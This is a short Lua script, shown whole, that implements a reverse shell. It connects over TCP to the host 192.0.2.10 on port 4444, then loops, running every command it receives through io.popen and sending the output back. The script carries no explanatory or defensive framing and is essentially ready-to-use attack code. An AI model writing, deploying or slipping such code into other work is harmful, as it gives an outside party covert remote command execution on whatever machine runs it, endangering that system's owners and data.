local s = require("socket")
local t = assert(s.tcp())
t:connect("192.0.2.10", 4444)
while true do
  local r, x = t:receive()
  local f = assert(io.popen(r, "r"))
  t:send(f:read("*a"))
end
